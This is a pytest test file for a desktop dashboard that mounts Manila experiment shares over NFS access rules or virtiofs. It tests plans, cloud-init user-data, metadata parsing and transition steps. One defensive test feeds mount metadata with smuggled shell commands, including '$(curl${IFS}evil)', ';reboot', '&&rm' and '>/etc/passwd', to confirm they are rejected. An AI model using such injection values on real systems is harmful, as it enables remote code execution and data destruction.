"""core/mounts.py (both modes' plans, refusals, the metadata a desktop records),
core/shares.py (experiments from Manila shares), core/cloud_init.py (user-data) and
core/mount_steps.py (the step machine that drives a transition)."""

import pytest
import yaml

from heps_desktop_dashboard.core import cloud_init
from heps_desktop_dashboard.core import mount_steps
from heps_desktop_dashboard.core import mounts
from heps_desktop_dashboard.core import shares

PROJECT = "p-own"
EXPORT_RAW = "10.0.0.10:/path/to/share_raw"
EXPORT_RES = "10.0.0.10:/path/to/share_results"


def share(kind="raw", share_id=None, project=PROJECT, status="available", proto="NFS",
          exports=None, experiment="2026-0142", **extra):
    info = {"id": share_id or f"{kind}-id", "name": f"exp-{experiment}-{kind}",
            "project_id": project, "status": status, "share_proto": proto, "size": 1,
            "metadata": {"heps:experiment": experiment, "heps:kind": kind}, **extra}
    if exports is None:
        exports = (EXPORT_RAW if kind == "raw" else EXPORT_RES,)
    return shares.Share.from_api(info, exports)


def experiment(**kw):
    return shares.group_experiments([share("raw", **kw), share("results", **kw)], PROJECT)[0]


# --- shares and experiments ----------------------------------------------------------

def test_share_from_api_reads_the_experiment_convention():
    s = shares.Share.from_api({
        "id": "s1", "name": "exp-raw", "project_id": "p", "status": "AVAILABLE",
        "share_proto": "nfs", "size": 5, "is_public": False, "snapshot_support": True,
        "create_share_from_snapshot_support": "true",
        "metadata": {"heps:experiment": "2026-0142", "heps:kind": "raw"}}, ("a:/b",))
    assert (s.status, s.protocol, s.size, s.kind, s.experiment) == (
        "available", "NFS", 5, "raw", "2026-0142")
    assert s.snapshot_support and s.create_from_snapshot_support
    assert s.exports == ("a:/b",)


def test_export_paths_prefer_preferred_and_skip_admin_only():
    locations = [{"path": "b:/x", "preferred": False},
                 {"path": "admin:/x", "preferred": True, "is_admin_only": True},
                 {"path": "a:/x", "preferred": True}]
    assert shares.export_paths(locations) == ("a:/x", "b:/x")


def test_group_experiments_keeps_only_own_project_and_convention():
    found_shares = [share("raw"), share("results"),
              share("raw", share_id="foreign", project="p-other", experiment="2026-0217"),
              share("scratch", share_id="odd"),
              share("raw", share_id="bad-id", experiment="bad id!"),
              share("raw", share_id="newline", experiment="2026-0142\n"),
              share("raw", share_id="lonely", experiment="2026-0999")]
    found = shares.group_experiments(found_shares, PROJECT)
    assert [e.id for e in found] == ["2026-0142", "2026-0999"]
    assert found[0].raw.id == "raw-id" and found[0].results.id == "results-id"
    assert found[1].results is None


def test_two_raw_shares_make_an_experiment_ambiguous():
    found = shares.group_experiments(
        [share("raw"), share("raw", share_id="raw-2"), share("results")], PROJECT)
    assert found[0].problems == (mounts.DUPLICATE,)
    with pytest.raises(mounts.MountRefused) as exc:
        mounts.plan(mounts.MODE_ACCESS_RULE, found[0], project_id=PROJECT)
    assert exc.value.reason == mounts.DUPLICATE


# --- access-rule plans -------------------------------------------------------------------

def test_access_rule_plan_raw_ro_results_rw_at_the_well_known_paths():
    plan = mounts.plan(mounts.MODE_ACCESS_RULE, experiment(), project_id=PROJECT)
    raw, results = plan.grant("raw"), plan.grant("results")
    assert (raw.level, raw.path, raw.fstype, raw.source) == ("ro", "/data/raw", "nfs",
                                                             EXPORT_RAW)
    assert (results.level, results.path, results.source) == ("rw", "/data/results",
                                                             EXPORT_RES)
    assert plan.rule_metadata("srv-1", raw) == {
        "heps:desktop": "srv-1", "heps:kind": "raw", "heps:experiment": "2026-0142"}
    assert plan.server_metadata() == {
        "heps:data_mode": "access-rule", "heps:data_state": "attaching",
        "heps:mount:raw": f"nfs {EXPORT_RAW} /data/raw ro raw-id",
        "heps:mount:results": f"nfs {EXPORT_RES} /data/results rw results-id"}


def test_access_rule_user_data_mounts_both_exports_with_their_levels():
    plan = mounts.plan(mounts.MODE_ACCESS_RULE, experiment(), project_id=PROJECT)
    text = cloud_init.plan_user_data(plan)
    assert text.startswith("#cloud-config\n")
    doc = yaml.safe_load(text)
    files = {f["path"]: f["content"] for f in doc["write_files"]}
    raw_unit = files["/etc/systemd/system/data-raw.mount"]
    assert f"What={EXPORT_RAW}" in raw_unit
    assert "Where=/data/raw" in raw_unit and "Type=nfs" in raw_unit
    assert "Options=ro,nofail,_netdev" in raw_unit
    results_unit = files["/etc/systemd/system/data-results.mount"]
    assert "Options=rw,nofail,_netdev" in results_unit
    assert "/etc/systemd/system/data-raw.automount" in files
    assert ["mkdir", "-p", "/data/raw", "/data/results"] in doc["runcmd"]
    assert ["systemctl", "enable", "--now", "data-raw.automount",
            "data-results.automount"] in doc["runcmd"]


def test_results_may_be_narrowed_to_read_only_but_raw_never_widened():
    plan = mounts.plan(mounts.MODE_ACCESS_RULE, experiment(), project_id=PROJECT,
                       levels={"results": "ro"})
    assert plan.grant("results").level == "ro"
    for levels in ({"raw": "rw"}, {"results": "rwx"}, {"scratch": "ro"}):
        with pytest.raises(mounts.MountRefused) as exc:
            mounts.plan(mounts.MODE_ACCESS_RULE, experiment(), project_id=PROJECT,
                        levels=levels)
        assert exc.value.reason == mounts.LEVEL


@pytest.mark.parametrize("mode", mounts.MODES)
@pytest.mark.parametrize("kw, reason", [
    ({"project": "p-other"}, mounts.OTHER_PROJECT),
    ({"status": "error"}, mounts.BAD_STATUS),
    ({"status": "deleting"}, mounts.BAD_STATUS),
    ({"status": "creating"}, mounts.BAD_STATUS),
    ({"proto": "CIFS"}, mounts.PROTOCOL),
])
def test_bad_shares_refuse_the_whole_plan(mode, kw, reason):
    # Only the results share is bad: the raw share must not be granted alone either.
    exp = shares.Experiment(id="2026-0142", raw=share("raw"), results=share("results", **kw))
    with pytest.raises(mounts.MountRefused) as exc:
        mounts.plan(mode, exp, project_id=PROJECT)
    assert exc.value.reason == reason
    assert exc.value.share.id == "results-id"


def test_cephfs_is_mountable_over_virtiofs_but_not_with_ip_rules():
    exp = shares.Experiment(id="e1", raw=share("raw", proto="CEPHFS"))
    assert mounts.plan(mounts.MODE_VIRTIOFS, exp, project_id=PROJECT).grants
    with pytest.raises(mounts.MountRefused) as exc:
        mounts.plan(mounts.MODE_ACCESS_RULE, exp, project_id=PROJECT)
    assert exc.value.reason == mounts.PROTOCOL


def test_access_rule_needs_an_export_and_a_raw_share():
    with pytest.raises(mounts.MountRefused) as exc:
        mounts.plan(mounts.MODE_ACCESS_RULE,
                    shares.Experiment(id="e1", raw=share("raw", exports=())),
                    project_id=PROJECT)
    assert exc.value.reason == mounts.NO_EXPORT
    with pytest.raises(mounts.MountRefused) as exc:
        mounts.plan(mounts.MODE_ACCESS_RULE,
                    shares.Experiment(id="e1", results=share("results")), project_id=PROJECT)
    assert exc.value.reason == mounts.NO_RAW
    with pytest.raises(mounts.MountRefused) as exc:
        mounts.plan(mounts.MODE_ACCESS_RULE, None, project_id=PROJECT)
    assert exc.value.reason == mounts.UNKNOWN_EXPERIMENT


def test_an_export_too_long_for_nova_metadata_is_refused():
    exp = shares.Experiment(id="e1", raw=share("raw", exports=("h:/" + "x" * 260,)))
    with pytest.raises(mounts.MountRefused) as exc:
        mounts.plan(mounts.MODE_ACCESS_RULE, exp, project_id=PROJECT)
    assert exc.value.reason == mounts.TOO_LONG


def test_unknown_mode_is_refused():
    with pytest.raises(mounts.MountRefused) as exc:
        mounts.plan("smb", experiment(), project_id=PROJECT)
    assert exc.value.reason == mounts.BAD_MODE


# --- virtiofs plans ----------------------------------------------------------------------

def test_virtiofs_plan_attaches_both_shares_with_fixed_tags():
    plan = mounts.plan(mounts.MODE_VIRTIOFS, experiment(exports=()), project_id=PROJECT)
    raw, results = plan.grant("raw"), plan.grant("results")
    assert (raw.tag, raw.level, raw.path, raw.fstype) == ("heps-raw", "ro", "/data/raw",
                                                          "virtiofs")
    assert (results.tag, results.level) == ("heps-results", "rw")
    assert plan.attachment_body(raw) == {"share": {"share_id": "raw-id", "tag": "heps-raw"}}
    assert plan.server_metadata()["heps:mount:raw"] == "virtiofs heps-raw /data/raw ro raw-id"


def test_virtiofs_user_data_mounts_tags_read_only_and_read_write():
    doc = yaml.safe_load(cloud_init.build_user_data(mounts.MODE_VIRTIOFS,
                                                    cloud_init.virtiofs_placeholder_grants()))
    files = {f["path"]: f["content"] for f in doc["write_files"]}
    raw = files["/etc/systemd/system/data-raw.mount"]
    assert "What=heps-raw" in raw and "Type=virtiofs" in raw and "Options=ro,nofail" in raw
    assert "Options=rw,nofail" in files["/etc/systemd/system/data-results.mount"]
    assert not any(p.endswith(".automount") for p in files)
    assert ["systemctl", "enable", "--now", "data-raw.mount", "data-results.mount"] in \
        doc["runcmd"]


# --- what the server records ------------------------------------------------------------

def test_read_data_state_round_trips_a_plan_and_reports_garbage():
    plan = mounts.plan(mounts.MODE_VIRTIOFS, experiment(exports=()), project_id=PROJECT)
    meta = dict(plan.server_metadata(mounts.STATE_ATTACHING_RESTART), **{"other": "x"})
    data = mounts.read_data_state(meta)
    assert data.mode == "virtiofs" and data.transitional and data.restart
    assert data.share_ids == ("raw-id", "results-id")
    assert data.mount("raw").tag == "heps-raw"
    assert "mount -t virtiofs -o ro heps-raw /data/raw" in data.mount("raw").mount_command()
    bad = mounts.read_data_state({"heps:mount:raw": "virtiofs heps-raw /data/raw rwx id",
                                  "heps:data_state": "flying", "heps:data_mode": "smb"})
    assert set(bad.problems) == {"heps:mount:raw", "heps:data_state", "heps:data_mode"}
    assert mounts.read_data_state(None).empty


@pytest.mark.parametrize("value", [
    "nfs 10.0.0.1:/x;reboot /data/raw ro id",
    "nfs $(curl${IFS}evil) /data/raw ro id",
    "nfs `id` /data/raw ro id",
    "nfs h:/x /data/raw&&rm ro id",
    "nfs|sh h:/x /data/raw ro id",
    "nfs h:/x /data/raw>/etc/passwd ro id",
])
def test_a_mount_command_is_never_a_shell_snippet(value):
    # heps:mount:* is user-editable metadata: the Experiment data tab shows its command.
    mount = mounts.read_data_state({"heps:mount:raw": value}).mount("raw")
    assert mount is not None and mount.mount_command() == ""


def test_a_plain_mount_command():
    mount = mounts.parse_mount("results", "nfs 10.0.0.10:/share/res-1 /data/results rw r1")
    assert mount.mount_command() == ("sudo mkdir -p /data/results && sudo mount -t nfs "
                                     "-o rw 10.0.0.10:/share/res-1 /data/results")
    ipv6 = mounts.parse_mount("raw", "nfs [fd00::10]:/share/raw-1 /data/raw ro r1")
    assert "[fd00::10]:/share/raw-1" in ipv6.mount_command()


def test_pseudo_task_keeps_rows_polling_only_in_transition():
    assert mounts.pseudo_task_state({"heps:data_state": "attaching"}) == \
        mounts.TASK_ATTACHING_DATA
    assert mounts.pseudo_task_state({"heps:data_state": "detaching-restart"}) == \
        mounts.TASK_DETACHING_DATA
    assert mounts.pseudo_task_state({"heps:data_state": "attached"}) is None
    assert mounts.pseudo_task_state(None) is None
    # nova keeps a stuck server's metadata as it is: no polling for ever.
    for status in ("ERROR", "shelved_offloaded"):
        assert mounts.pseudo_task_state({"heps:data_state": "attaching"}, status) is None


def test_data_metadata_keys_and_fixed_address():
    meta = {"heps:mount:raw": "x", "heps:data_state": "attached", "heps:data_mode": "m",
            "heps:data_error": "e", "heps:experiment": "keep", "heps:owner": "keep"}
    assert mounts.data_metadata_keys(meta) == [
        "heps:data_error", "heps:data_mode", "heps:data_state", "heps:mount:raw"]
    addresses = {"net": [{"addr": "fd00::1", "version": 6},
                         {"addr": "172.24.4.9", "OS-EXT-IPS:type": "floating", "version": 4},
                         {"addr": "10.42.1.7", "OS-EXT-IPS:type": "fixed", "version": 4}]}
    assert mounts.fixed_address(addresses) == "10.42.1.7"
    assert mounts.fixed_address({}) == ""


# --- the step machine ---------------------------------------------------------------------

def _data(mode, state, kinds=("raw", "results")):
    plan_ = mounts.plan(mode, experiment(), project_id=PROJECT)
    meta = plan_.server_metadata(state)
    for kind in set(mounts.KINDS) - set(kinds):
        meta.pop(f"heps:mount:{kind}")
    return mounts.read_data_state(meta)


V, A = mounts.MODE_VIRTIOFS, mounts.MODE_ACCESS_RULE
BOTH = ("raw-id", "results-id")


@pytest.mark.parametrize("state, status, task, attached, expected", [
    ("attaching", "BUILD", "spawning", {}, (mount_steps.WAIT, ())),
    ("attaching", "ACTIVE", None, {}, (mount_steps.STOP, ())),
    ("attaching-restart", "ACTIVE", "powering-off", {}, (mount_steps.WAIT, ())),
    ("attaching-restart", "SHUTOFF", None, {}, (mount_steps.ATTACH, BOTH)),
    ("attaching-restart", "SHUTOFF", None, {"raw-id": "inactive"},
     (mount_steps.ATTACH, ("results-id",))),
    ("attaching-restart", "SHUTOFF", None, {"raw-id": "attaching", "results-id": "inactive"},
     (mount_steps.WAIT, ())),
    ("attaching-restart", "SHUTOFF", None, {"raw-id": "inactive", "results-id": "inactive"},
     (mount_steps.START, ())),
    ("attaching-restart", "ACTIVE", None, {"raw-id": "active", "results-id": "active"},
     (mount_steps.DONE, ())),
    # attached to a stopped desktop: it stays stopped
    ("attaching", "SHUTOFF", None, {"raw-id": "inactive", "results-id": "inactive"},
     (mount_steps.DONE, ())),
    ("attaching-restart", "SHUTOFF", None, {"raw-id": "error"}, (mount_steps.FAIL, ())),
    ("attaching", "ERROR", None, {}, (mount_steps.FAIL, ())),
    ("attaching", "SHELVED_OFFLOADED", None, {}, (mount_steps.FAIL, ())),
    ("detaching", "ACTIVE", None, {"raw-id": "active", "results-id": "active"},
     (mount_steps.STOP, ())),
    ("detaching-restart", "SHUTOFF", None, {"raw-id": "inactive", "results-id": "inactive"},
     (mount_steps.DETACH, BOTH)),
    ("detaching-restart", "SHUTOFF", None, {"raw-id": "detaching"}, (mount_steps.WAIT, ())),
    ("detaching-restart", "SHUTOFF", None, {}, (mount_steps.START, ())),
    ("detaching-restart", "ACTIVE", None, {}, (mount_steps.DONE, ())),
    ("attached", "ACTIVE", None, {}, (mount_steps.DONE, ())),
])
def test_virtiofs_steps(state, status, task, attached, expected):
    step = mount_steps.next_step(_data(V, state), status=status, task_state=task,
                            attachments=attached)
    assert (step.action, step.share_ids) == expected


@pytest.mark.parametrize("state, status, rules, address, expected", [
    ("attaching", "BUILD", {}, "", (mount_steps.WAIT, ())),
    ("attaching", "BUILD", {}, "10.42.1.7", (mount_steps.WAIT, ())),  # nova still spawning
    ("attaching", "ACTIVE", {}, "", (mount_steps.WAIT, ())),
    ("attaching", "ACTIVE", {}, "10.42.1.7", (mount_steps.ALLOW, BOTH)),
    ("attaching", "ACTIVE", {"raw-id": ["queued_to_apply"]}, "10.42.1.7",
     (mount_steps.ALLOW, ("results-id",))),
    ("attaching", "ACTIVE", {"raw-id": ["applying"], "results-id": ["active"]}, "10.42.1.7",
     (mount_steps.WAIT, ())),
    ("attaching", "ACTIVE", {"raw-id": ["active"], "results-id": ["active"]}, "10.42.1.7",
     (mount_steps.DONE, ())),
    ("attaching", "SHUTOFF", {"raw-id": ["active"], "results-id": ["active"]}, "10.42.1.7",
     (mount_steps.DONE, ())),
    ("attaching", "ACTIVE", {"raw-id": ["error"]}, "10.42.1.7", (mount_steps.FAIL, ())),
    ("detaching", "ACTIVE", {"raw-id": ["active"], "results-id": []}, "10.42.1.7",
     (mount_steps.DENY, ("raw-id",))),
    ("detaching", "ACTIVE", {"raw-id": ["denying"]}, "10.42.1.7", (mount_steps.WAIT, ())),
    ("detaching", "ACTIVE", {"raw-id": [], "results-id": []}, "10.42.1.7", (mount_steps.DONE, ())),
])
def test_access_rule_steps(state, status, rules, address, expected):
    step = mount_steps.next_step(_data(A, state), status=status, task_state=None,
                            rules=rules, address=address)
    assert (step.action, step.share_ids) == expected


def test_a_raw_only_experiment_is_attached_alone():
    data = _data(V, "attaching-restart", kinds=("raw",))
    step = mount_steps.next_step(data, status="SHUTOFF", task_state=None, attachments={})
    assert step.share_ids == ("raw-id",)


@pytest.mark.parametrize("mode, status, task, kw, expected", [
    (V, "ACTIVE", "deleting", {"attachments": {}}, (mount_steps.WAIT, "")),
    (A, "ACTIVE", "deleting", {"rules": {}, "address": "10.42.1.7"},
     (mount_steps.WAIT, "")),
    (V, "SHELVED_OFFLOADED", None, {"attachments": {}},
     (mount_steps.FAIL, "server-shelved_offloaded")),
    (A, "SHELVED_OFFLOADED", None, {"rules": {}, "address": ""},
     (mount_steps.FAIL, "no-address")),
    (A, "ERROR", None, {"rules": {}, "address": "10.42.1.7"},
     (mount_steps.FAIL, "server-error")),
])
def test_desktops_that_cannot_take_the_data(mode, status, task, kw, expected):
    step = mount_steps.next_step(_data(mode, "attaching"), status=status, task_state=task,
                                 **kw)
    assert (step.action, step.reason) == expected


def test_a_rule_in_error_is_denied_on_detach():
    step = mount_steps.next_step(_data(A, "detaching"), status="ACTIVE", task_state=None,
                                 rules={"raw-id": ["error"], "results-id": ["queued_to_deny"]},
                                 address="10.42.1.7")
    assert (step.action, step.share_ids) == (mount_steps.DENY, ("raw-id",))


def test_an_unknown_recorded_mode_fails():
    data = mounts.DataState(mode="smb", state="attaching")
    step = mount_steps.next_step(data, status="ACTIVE", task_state=None)
    assert (step.action, step.reason) == (mount_steps.FAIL, "mode")
